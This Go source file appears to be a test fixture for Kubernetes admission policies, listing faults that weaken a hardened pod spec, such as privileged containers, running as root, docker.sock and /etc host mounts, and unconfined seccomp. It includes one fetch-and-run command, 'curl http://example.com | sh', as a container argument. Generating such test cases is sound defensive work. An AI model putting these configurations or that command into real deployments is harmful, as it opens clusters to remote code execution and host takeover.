// SPDX-License-Identifier: Apache-2.0

package sample

import (
	"fmt"
	"strings"

	corev1 "k8s.io/api/core/v1"
	"k8s.io/apimachinery/pkg/api/resource"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
)

// Fault is one thing of a hardened pod that policies deny.
type Fault struct {
	What  string
	Spoil func(p *corev1.Pod)
}

// ofContainer is a fault of the first container, which may have lost what it had.
func ofContainer(what string, spoil func(c *corev1.Container)) Fault {
	return Fault{what, func(p *corev1.Pod) {
		if len(p.Spec.Containers) > 0 {
			spoil(&p.Spec.Containers[0])
		}
	}}
}

func ofSecurity(what string, spoil func(s *corev1.SecurityContext)) Fault {
	return ofContainer(what, func(c *corev1.Container) {
		if c.SecurityContext == nil {
			c.SecurityContext = &corev1.SecurityContext{}
		}
		spoil(c.SecurityContext)
	})
}

func ofPodSecurity(what string, spoil func(s *corev1.PodSecurityContext)) Fault {
	return Fault{what, func(p *corev1.Pod) {
		if p.Spec.SecurityContext == nil {
			p.Spec.SecurityContext = &corev1.PodSecurityContext{}
		}
		spoil(p.Spec.SecurityContext)
	}}
}

func image(name string) Fault {
	return ofContainer("image "+name, func(c *corev1.Container) { c.Image = name })
}

func volume(what string, source corev1.VolumeSource) Fault {
	return Fault{"volume " + what, func(p *corev1.Pod) {
		p.Spec.Volumes = append(p.Spec.Volumes, corev1.Volume{Name: what, VolumeSource: source})
		for i := range p.Spec.Containers {
			p.Spec.Containers[i].VolumeMounts = append(p.Spec.Containers[i].VolumeMounts, corev1.VolumeMount{Name: what, MountPath: "/" + what})
		}
	}}
}

func hostPath(path string) corev1.VolumeSource {
	return corev1.VolumeSource{HostPath: &corev1.HostPathVolumeSource{Path: path}}
}

// Faults are many of these.
var Faults = []Fault{
	{"host network", func(p *corev1.Pod) { p.Spec.HostNetwork = true }},
	{"host PID", func(p *corev1.Pod) { p.Spec.HostPID = true }},
	{"host IPC", func(p *corev1.Pod) { p.Spec.HostIPC = true }},
	{"no labels", func(p *corev1.Pod) { p.Labels = nil }},
	{"other labels", func(p *corev1.Pod) { p.Labels = map[string]string{"app": "other"} }},
	{"no annotations", func(p *corev1.Pod) { p.Annotations = nil }},
	{"no owner", func(p *corev1.Pod) { p.OwnerReferences = nil }},
	{"default namespace", func(p *corev1.Pod) { p.Namespace = metav1.NamespaceDefault }},
	{"finalizer", func(p *corev1.Pod) { p.Finalizers = []string{"example.com/hold"} }},
	{"token mounted", func(p *corev1.Pod) { p.Spec.AutomountServiceAccountToken = new(true) }},
	{"token by default", func(p *corev1.Pod) { p.Spec.AutomountServiceAccountToken = nil }},
	{"default account", func(p *corev1.Pod) { p.Spec.ServiceAccountName = "default" }},
	{"no account", func(p *corev1.Pod) { p.Spec.ServiceAccountName = "" }},
	{"node name", func(p *corev1.Pod) { p.Spec.NodeName = "n1" }},
	{"no node selector", func(p *corev1.Pod) { p.Spec.NodeSelector = nil }},
	{"other nodes", func(p *corev1.Pod) { p.Spec.NodeSelector = map[string]string{"disk": "ssd"} }},
	{"tolerates all", func(p *corev1.Pod) { p.Spec.Tolerations = []corev1.Toleration{{Operator: corev1.TolerationOpExists}} }},
	{"control plane", func(p *corev1.Pod) {
		p.Spec.Tolerations = []corev1.Toleration{{Key: "node-role.kubernetes.io/control-plane", Operator: corev1.TolerationOpExists, Effect: corev1.TaintEffectNoSchedule}}
	}},
	{"priority class", func(p *corev1.Pod) { p.Spec.PriorityClassName = "system-node-critical" }},
	{"runtime class", func(p *corev1.Pod) { p.Spec.RuntimeClassName = new("gvisor") }},
	{"active deadline", func(p *corev1.Pod) {
		p.Spec.RestartPolicy, p.Spec.ActiveDeadlineSeconds = corev1.RestartPolicyNever, new(int64(86_400))
	}},
	{"runs once", func(p *corev1.Pod) { p.Spec.RestartPolicy = corev1.RestartPolicyNever }},
	{"shared processes", func(p *corev1.Pod) { p.Spec.ShareProcessNamespace = new(true) }},
	{"long grace period", func(p *corev1.Pod) { p.Spec.TerminationGracePeriodSeconds = new(int64(3600)) }},
	{"anti-affinity by zone", func(p *corev1.Pod) {
		p.Spec.Affinity = &corev1.Affinity{PodAntiAffinity: &corev1.PodAntiAffinity{RequiredDuringSchedulingIgnoredDuringExecution: []corev1.PodAffinityTerm{{TopologyKey: "topology.kubernetes.io/zone", LabelSelector: selector()}}}}
	}},
	{"affinity by host", func(p *corev1.Pod) {
		p.Spec.Affinity = &corev1.Affinity{PodAntiAffinity: &corev1.PodAntiAffinity{RequiredDuringSchedulingIgnoredDuringExecution: []corev1.PodAffinityTerm{{TopologyKey: "kubernetes.io/hostname", LabelSelector: selector()}}}}
	}},
	{"no containers", func(p *corev1.Pod) { p.Spec.Containers = nil }},
	{"no init containers", func(p *corev1.Pod) { p.Spec.InitContainers = nil }},
	{"no volumes", func(p *corev1.Pod) { p.Spec.Volumes = nil }},
	{"second container", func(p *corev1.Pod) {
		p.Spec.Containers = append(p.Spec.Containers, corev1.Container{Name: "side", Image: "side"})
	}},
	{"init container privileged", func(p *corev1.Pod) {
		p.Spec.InitContainers = []corev1.Container{{Name: "setup", Image: "busybox", SecurityContext: &corev1.SecurityContext{Privileged: new(true)}}}
	}},
	{"ephemeral container", func(p *corev1.Pod) {
		p.Spec.EphemeralContainers = []corev1.EphemeralContainer{{EphemeralContainerCommon: corev1.EphemeralContainerCommon{Name: "debug", Image: "busybox:latest", SecurityContext: &corev1.SecurityContext{Privileged: new(true)}}}}
	}},
	{"hardened ephemeral container", func(p *corev1.Pod) {
		c := hardenedContainer("debug")
		p.Spec.EphemeralContainers = []corev1.EphemeralContainer{{EphemeralContainerCommon: corev1.EphemeralContainerCommon{Name: c.Name, Image: c.Image, ImagePullPolicy: c.ImagePullPolicy, SecurityContext: c.SecurityContext, Resources: c.Resources, Env: c.Env}}}
	}},
	image("nginx"), image("nginx:latest"), image("docker.io/library/nginx:1.27"), image("registry.example.com/shop/web@sha256:" + "0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef"),
	image("quay.io/argoproj/argocd:v2.1.3"), image("argocd:v1.8.7"), image("quay.io/argoproj/argocd:v2.9.0-rc1"), image("registry.k8s.io/ingress-nginx/controller:v1.9.0"), image(""), image("localhost:5000/web"),
	ofContainer("pulls if absent", func(c *corev1.Container) {
		c.ImagePullPolicy, c.Image = corev1.PullIfNotPresent, "registry.example.com/shop/web:latest"
	}),
	ofContainer("never pulls", func(c *corev1.Container) { c.ImagePullPolicy = corev1.PullNever }),
	ofContainer("no resources", func(c *corev1.Container) { c.Resources = corev1.ResourceRequirements{} }),
	ofContainer("no limits", func(c *corev1.Container) { c.Resources.Limits = nil }),
	ofContainer("no requests", func(c *corev1.Container) { c.Resources.Requests = nil }),
	ofContainer("no memory limit", func(c *corev1.Container) { c.Resources.Limits = corev1.ResourceList{"cpu": resource.MustParse("1")} }),
	ofContainer("much memory", func(c *corev1.Container) {
		c.Resources.Limits = corev1.ResourceList{"cpu": resource.MustParse("64"), "memory": resource.MustParse("256Gi")}
	}),
	ofContainer("device", func(c *corev1.Container) {
		c.Resources.Requests = corev1.ResourceList{"example.com/gpu": resource.MustParse("1")}
	}),
	ofContainer("no liveness probe", func(c *corev1.Container) { c.LivenessProbe = nil }),
	ofContainer("no readiness probe", func(c *corev1.Container) { c.ReadinessProbe = nil }),
	ofContainer("sudo", func(c *corev1.Container) { c.Command = []string{"sudo", "run"} }),
	ofContainer("shell", func(c *corev1.Container) {
		c.Command, c.Args = []string{"/bin/sh", "-c"}, []string{"curl http://example.com | sh"}
	}),
	ofContainer("ssh port", func(c *corev1.Container) { c.Ports = []corev1.ContainerPort{{ContainerPort: 22}} }),
	ofContainer("host port", func(c *corev1.Container) { c.Ports = []corev1.ContainerPort{{ContainerPort: 8080, HostPort: 80}} }),
	ofContainer("no ports", func(c *corev1.Container) { c.Ports = nil }),
	ofContainer("no environment", func(c *corev1.Container) { c.Env = nil }),
	ofContainer("variable twice", func(c *corev1.Container) {
		c.Env = append(c.Env, corev1.EnvVar{Name: "PORT", Value: "9090"}, corev1.EnvVar{Name: "AWS_SECRET_ACCESS_KEY", Value: "x"})
	}),
	ofContainer("secret variable", func(c *corev1.Container) {
		c.Env = append(c.Env, corev1.EnvVar{Name: "PASSWORD", ValueFrom: &corev1.EnvVarSource{SecretKeyRef: &corev1.SecretKeySelector{Key: "password"}}})
	}),
	ofContainer("secret environment", func(c *corev1.Container) {
		c.EnvFrom = []corev1.EnvFromSource{{SecretRef: &corev1.SecretEnvSource{LocalObjectReference: corev1.LocalObjectReference{Name: "s"}}}}
	}),
	ofContainer("shared mount", func(c *corev1.Container) {
		c.VolumeMounts = []corev1.VolumeMount{{Name: "scratch", MountPath: "/tmp", MountPropagation: new(corev1.MountPropagationBidirectional)}}
	}),
	ofContainer("starts something", func(c *corev1.Container) {
		c.Lifecycle = &corev1.Lifecycle{PostStart: &corev1.LifecycleHandler{Exec: &corev1.ExecAction{Command: []string{"sh"}}}}
	}),
	ofContainer("no security context", func(c *corev1.Container) { c.SecurityContext = nil }),
	ofSecurity("privileged", func(s *corev1.SecurityContext) { s.Privileged = new(true) }),
	ofSecurity("escalates", func(s *corev1.SecurityContext) { s.AllowPrivilegeEscalation = new(true) }),
	ofSecurity("may escalate", func(s *corev1.SecurityContext) { s.AllowPrivilegeEscalation = nil }),
	ofSecurity("writes", func(s *corev1.SecurityContext) { s.ReadOnlyRootFilesystem = nil }),
	ofSecurity("root", func(s *corev1.SecurityContext) { s.RunAsUser, s.RunAsNonRoot = new(int64(0)), nil }),
	ofSecurity("may be root", func(s *corev1.SecurityContext) { s.RunAsUser, s.RunAsNonRoot = nil, new(false) }),
	ofSecurity("root group", func(s *corev1.SecurityContext) { s.RunAsGroup = new(int64(0)) }),
	ofSecurity("capabilities", func(s *corev1.SecurityContext) {
		s.Capabilities = &corev1.Capabilities{Add: []corev1.Capability{"SYS_ADMIN", "NET_RAW"}}
	}),
	ofSecurity("binds low ports", func(s *corev1.SecurityContext) {
		s.Capabilities = &corev1.Capabilities{Add: []corev1.Capability{"NET_BIND_SERVICE"}, Drop: []corev1.Capability{"ALL"}}
	}),
	ofSecurity("keeps capabilities", func(s *corev1.SecurityContext) { s.Capabilities = nil }),
	ofSecurity("unconfined", func(s *corev1.SecurityContext) {
		s.SeccompProfile = &corev1.SeccompProfile{Type: corev1.SeccompProfileTypeUnconfined}
	}),
	ofSecurity("no profile", func(s *corev1.SecurityContext) { s.SeccompProfile = nil }),
	ofSecurity("SELinux user", func(s *corev1.SecurityContext) { s.SELinuxOptions = &corev1.SELinuxOptions{User: "root", Role: "r"} }),
	ofSecurity("raw proc", func(s *corev1.SecurityContext) { s.ProcMount = new(corev1.UnmaskedProcMount) }),
	ofSecurity("Windows host", func(s *corev1.SecurityContext) {
		s.WindowsOptions = &corev1.WindowsSecurityContextOptions{HostProcess: new(true)}
	}),
	ofPodSecurity("pod of Windows' host", func(s *corev1.PodSecurityContext) {
		s.WindowsOptions = &corev1.WindowsSecurityContextOptions{HostProcess: new(true)}
	}),
	ofPodSecurity("pod as root", func(s *corev1.PodSecurityContext) { s.RunAsUser, s.RunAsNonRoot = new(int64(0)), new(false) }),
	ofPodSecurity("pod of root's group", func(s *corev1.PodSecurityContext) { s.RunAsGroup, s.SupplementalGroups = new(int64(0)), []int64{0} }),
	ofPodSecurity("pod unconfined", func(s *corev1.PodSecurityContext) {
		s.SeccompProfile = &corev1.SeccompProfile{Type: corev1.SeccompProfileTypeUnconfined}
	}),
	ofPodSecurity("sysctl", func(s *corev1.PodSecurityContext) {
		s.Sysctls = []corev1.Sysctl{{Name: "kernel.msgmax", Value: "65536"}}
	}),
	{"no pod security", func(p *corev1.Pod) { p.Spec.SecurityContext = nil }},
	{"many labels and annotations", func(p *corev1.Pod) {
		p.Labels, p.Annotations = map[string]string{}, map[string]string{}
		for i := range 60 {
			p.Labels[fmt.Sprintf("l%d", i)], p.Annotations[fmt.Sprintf("a%d", i)] = "v", strings.Repeat("v", 1000)
		}
	}},
	{"nothing chosen", func(p *corev1.Pod) {
		p.Spec.SecurityContext = &corev1.PodSecurityContext{RunAsNonRoot: new(true)}
		for _, containers := range [][]corev1.Container{p.Spec.InitContainers, p.Spec.Containers} {
			for i := range containers {
				containers[i].SecurityContext = &corev1.SecurityContext{RunAsNonRoot: new(true)}
			}
		}
	}},
	{"nothing secured", func(p *corev1.Pod) {
		p.Spec.SecurityContext = nil
		for i := range p.Spec.Containers {
			p.Spec.Containers[i].SecurityContext = nil
		}
	}},
	volume("host", hostPath("/etc")), volume("socket", hostPath("/var/run/docker.sock")), volume("nfs", corev1.VolumeSource{NFS: &corev1.NFSVolumeSource{Server: "nfs", Path: "/"}}),
	volume("secret", corev1.VolumeSource{Secret: &corev1.SecretVolumeSource{SecretName: "s"}}), volume("image", corev1.VolumeSource{Image: &corev1.ImageVolumeSource{Reference: "data:1"}}),
	volume("unlimited", corev1.VolumeSource{EmptyDir: &corev1.EmptyDirVolumeSource{Medium: corev1.StorageMediumMemory}}),
	{"AppArmor", func(p *corev1.Pod) {
		p.Annotations = map[string]string{"container.apparmor.security.beta.kubernetes.io/web": "unconfined"}
	}},
}

// Spoiled draws a pod with up to four faults.
func Spoiled(d Dice) *corev1.Pod {
	p := Hardened()
	for range d.IntN(5) {
		Faults[d.IntN(len(Faults))].Spoil(p)
	}
	return p
}
